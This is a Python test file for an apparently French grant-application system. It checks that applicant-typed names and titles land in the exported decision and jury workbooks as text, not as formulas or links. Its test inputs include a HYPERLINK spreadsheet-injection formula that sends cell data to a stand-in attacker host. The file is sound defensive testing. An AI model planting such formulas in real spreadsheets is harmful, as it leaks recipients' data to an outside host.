"""Spreadsheet injection (ASVS 5.3.1): text typed by applicants (an organisation's name,
a project's title) is written to the workbooks as text, never as a formula or a live
link, whatever it starts with. Read back with openpyxl, which tells a formula cell
(data type ``f``) from a text cell (``s``)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from aap.services import deliberations, reviews
from aap.services.exports import annex, jury
from tests import factories

#: what an attacker would type, each a formula or a link if written as such
TYPED = ['=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")', "=1+1",
         "http://attaquant.example/"]


def _cells_with(content: bytes, texts: list[str]) -> dict[str, tuple[str, bool]]:
    """The data type of each cell holding one of ``texts``, in every sheet, and whether
    it is a live link."""
    book = load_workbook(io.BytesIO(content))
    return {cell.value: (cell.data_type, cell.hyperlink is not None)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value in texts}


@pytest.mark.parametrize("typed", TYPED)
def test_the_decision_annex_writes_names_and_titles_as_text(world, typed):
    org = factories.make_organisation([world.users["applicant"]], name=typed)
    app = factories.make_application(world.call, org, title=typed)
    app = world.fire(world.bring_to(app, "reviewed"), "propose", {"amount_cents": 1000_00})
    deliberations.grant(world.call, world.users["instructor"],
                        {"body": "Bureau", "reference": "DEL-1", "date": "2026-10-12"},
                        [app.id])

    found = _cells_with(annex.build(world.call, "DEL-1"), [typed])

    assert found == {typed: ("s", False)}


@pytest.mark.parametrize("typed", TYPED)
def test_the_jury_workbook_writes_titles_as_text(world, typed):
    app = world.bring_to(world.application(title=typed), "in_review")
    reviews.save_review(world.users["juror"], app, {
        "scores": {"pertinence": 3, "faisabilite": 3}, "submit": True})

    found = _cells_with(jury.build(world.call), [typed])

    assert found == {typed: ("s", False)}
